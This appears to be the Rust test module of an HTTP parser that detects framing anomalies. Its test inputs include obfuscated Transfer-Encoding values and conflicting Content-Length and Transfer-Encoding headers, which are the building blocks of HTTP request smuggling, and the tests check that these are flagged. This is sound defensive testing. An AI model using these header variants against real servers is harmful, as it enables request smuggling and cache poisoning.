        assert_eq!(classify_start(b"HTT"), Scan::NeedMore);
        assert_eq!(
            classify_start(b"HTTP/1.1 200 OK\r\n"),
            Scan::Yes(Start::Response)
        );
        assert_eq!(
            classify_start(b"PUT /a HTTP/1.1\r\n"),
            Scan::Yes(Start::Request)
        );
        assert_eq!(classify_start(b"220 smtp.example ESMTP\r\n"), Scan::No);
        assert_eq!(classify_start(b"H"), Scan::NeedMore);
        assert_eq!(
            resync_candidate(b"HTTP/1.1 200 OK", Some(Start::Request)),
            Scan::No
        );
        assert_eq!(
            resync_candidate(b"HTTP/1.1 200 OK", None),
            Scan::Yes(Start::Response)
        );
        assert_eq!(resync_candidate(b"H", None), Scan::NeedMore);
    }

    #[test]
    fn head_end() {
        assert_eq!(find_head_end(b"GET / HTTP/1.1\r\n\r\nbody", 0), Ok(18));
        assert_eq!(find_head_end(b"GET / HTTP/1.1\n\nbody", 0), Ok(16));
        assert_eq!(find_head_end(b"GET / HTTP/1.1\r\nA: b\r\n", 0), Err(21));
        assert_eq!(find_head_end(b"GET / HTTP/1.1\r\nA: b\r\n\r", 0), Err(21));
        assert_eq!(find_head_end(b"GET / HTTP/1.1\r\nA: b\r\n\r\n", 21), Ok(24));
    }

    #[test]
    fn chunk_sizes() {
        assert_eq!(parse_chunk_size(b"1a"), Some(26));
        assert_eq!(parse_chunk_size(b"1A;name=value\r"), Some(26));
        assert_eq!(parse_chunk_size(b"0 ; x"), Some(0));
        assert_eq!(parse_chunk_size(b"ffffffffffffffff"), Some(u64::MAX));
        assert_eq!(parse_chunk_size(b"10000000000000000"), None);
        assert_eq!(parse_chunk_size(b"0000000000000000001"), Some(1));
        assert_eq!(parse_chunk_size(b"zz"), None);
        assert_eq!(parse_chunk_size(b"5 x"), None);
        assert_eq!(parse_chunk_size(b""), None);
    }

    fn hdrs(list: &[(&str, &[u8])]) -> Headers {
        list.iter().copied().collect()
    }

    #[test]
    fn usual_methods_and_reasons_are_borrowed_others_kept_as_sent() {
        let (h, _) = parse_request_head(b"GET / HTTP/1.1\r\n\r\n", 8).unwrap();
        assert!(matches!(h.method, Cow::Borrowed("GET")));
        let (h, _) = parse_request_head(b"get / HTTP/1.1\r\n\r\n", 8).unwrap();
        assert!(matches!(&h.method, Cow::Owned(m) if m == "get"));
        let (h, _) = parse_request_head(b"PROPFIND / HTTP/1.1\r\n\r\n", 8).unwrap();
        assert_eq!(h.method, "PROPFIND");
        let (h, _) = parse_response_head(b"HTTP/1.1 404 Not Found\r\n\r\n", 8).unwrap();
        assert!(matches!(h.reason, Cow::Borrowed("Not Found")));
        let (h, _) = parse_response_head(b"HTTP/1.1 200 Okay\r\n\r\n", 8).unwrap();
        assert!(matches!(&h.reason, Cow::Owned(r) if r == "Okay"));
    }

    fn first(h: &Headers) -> crate::message::Header<'_> {
        h.iter().next().unwrap()
    }

    fn framing(list: &[(&str, &[u8])]) -> (FramingHeaders, Anomalies) {
        let mut a = Anomalies::new();
        let mut s = HttpStats::default();
        let f = analyse_framing(&hdrs(list), &mut a, &mut s);
        (f, a)
    }

    #[test]
    fn transfer_encoding_cases() {
        let cases: &[(&[u8], bool, bool)] = &[
            // value, chunked?, obfuscated?
            (b"chunked", true, false),
            (b"gzip, chunked", true, false),
            (b"Chunked", true, false),
            (b"GZIP, CHUNKED", true, false),
            (b"chunked, identity", true, true),
            (b"\x0bchunked", true, true),
            (b"chunked\x0c", true, true),
            (b"=?UTF-8?B?Y2h1bmtlZAo=?=", false, true),
            (b"xchunked", false, true),
            (b"chunked, chunked", true, true),
            (b"identity", false, true),
        ];
        for (v, chunked, obf) in cases {
            let (f, a) = framing(&[("Transfer-Encoding", v)]);
            assert_eq!(f.request() == Framing::Chunked, *chunked, "{v:?}");
            assert_eq!(
                a.contains(Anomaly::ObfuscatedTransferEncoding),
                *obf,
                "{v:?}"
            );
        }
    }

    #[test]
    fn content_length_cases() {
        let (f, a) = framing(&[("Content-Length", b"5"), ("content-length", b"5")]);
        assert_eq!(f.request(), Framing::Length(5));
        assert!(a.is_empty());
        let (f, a) = framing(&[("Content-Length", b"5, 5")]);
        assert_eq!(f.request(), Framing::Length(5));
        assert!(a.is_empty());
        let (f, a) = framing(&[("Content-Length", b"11"), ("Content-Length", b"93")]);
        assert_eq!(f.request(), Framing::Length(11));
        assert!(a.contains(Anomaly::ConflictingContentLength));
        let (f, a) = framing(&[("Content-Length", b"+5")]);
        assert_eq!(f.request(), Framing::None);
        assert_eq!(f.response(), Framing::Close);
        assert!(a.contains(Anomaly::InvalidContentLength));
        let (f, a) = framing(&[("Content-Length", b"50"), ("Transfer-Encoding", b"chunked")]);
        assert_eq!(f.request(), Framing::Chunked);
        assert!(a.contains(Anomaly::AmbiguousFraming));
        let (f, a) = framing(&[
            ("Content-Length", b"68"),
            ("Transfer-Encoding", b"=?UTF-8?B?Y2h1bmtlZAo=?="),
        ]);
        assert_eq!(f.response(), Framing::Length(68));
        assert!(a.contains(Anomaly::AmbiguousFraming));
        assert!(a.contains(Anomaly::ObfuscatedTransferEncoding));
        let (f, _) = framing(&[("Content-Length", b"99999999999999999999999")]);
        assert_eq!(f.request(), Framing::None);
    }

    #[test]
    fn encodings_in_applied_order() {
        let (f, a) = framing(&[
            ("Content-Encoding", b"gzip, identity"),
            ("Content-Encoding", b" Deflate "),
            ("Transfer-Encoding", b"gzip, chunked"),
        ]);
        assert_eq!(f.encoding, vec!["gzip", "deflate", "gzip"]);
        assert!(a.is_empty());
    }

    #[test]
    fn lenient_fallback() {
        let (h, lenient) = parse_request_head(
            b"POST / HTTP/1.1\r\nTransfer-Encoding: \x0bchunked\r\n\r\n",
            8,
        )
        .unwrap();
        assert!(lenient);
        assert_eq!(first(&h.headers).value, b"\x0bchunked");
        let (h, lenient) =
            parse_request_head(b"GET /\xff HTTP/1.1\r\nA: b\r\n c\r\n\r\n", 8).unwrap();
        assert!(lenient);
        assert_eq!(h.target, "/\u{fffd}");
        assert_eq!(first(&h.headers).value, b"b c");
        let (h, lenient) =
            parse_request_head(b"GET /a?x=1 2  HTTP/1.0\r\nHost: h\r\n\r\n", 8).unwrap();
        assert!(lenient);
        assert_eq!(
            (h.target.as_str(), h.version),
            ("/a?x=1 2", Version::Http10)
        );
        let (h, lenient) = parse_request_head(b"GET / HTTP/1.1\r\nHost : a\r\n\r\n", 8).unwrap();
        assert!(lenient);
        assert_eq!(
            (first(&h.headers).name, first(&h.headers).value),
            ("Host", &b"a"[..])
        );
        // A line that cannot be a header is skipped, not the head dropped.
        let (h, lenient) =
            parse_request_head(b"GET / HTTP/1.1\r\nHo st: a\r\nnoise\r\nHost: b\r\n\r\n", 8)
                .unwrap();
        assert!(lenient);
        assert_eq!(h.headers.len(), 1);
        assert_eq!(first(&h.headers).value, b"b");
        assert_eq!(
            parse_request_head(b"GET / HTTP/1.1\r\nA: 1\r\nB: 2\r\n\r\n", 1).unwrap_err(),
            HeadError::TooManyHeaders
        );
        let (h, lenient) =
            parse_response_head(b"HTTP/1.0 404 File\x01\r\nA: b\r\n\r\n", 8).unwrap();
        assert!(lenient);
        assert_eq!((h.status, h.version), (404, Version::Http10));
    }
}

#[cfg(test)]
mod find_lf_tests {
    use super::find_lf;

    #[test]
    fn find_lf_matches_a_plain_search() {
        let mut buf = vec![b'x'; 70];
        for lf in [
            None,
            Some(0),
            Some(15),
            Some(16),
            Some(31),
            Some(47),
            Some(69),
        ] {
            buf.fill(b'x');
            if let Some(p) = lf {
                buf[p] = b'\n';
            }
            for from in [0, 1, 15, 16, 17, 40, 69, 70, 71] {
                let want = buf
                    .get(from..)
                    .and_then(|t| t.iter().position(|b| *b == b'\n'))
                    .map(|i| from + i);
                assert_eq!(find_lf(&buf, from), want, "lf {lf:?} from {from}");
            }
        }
    }
}
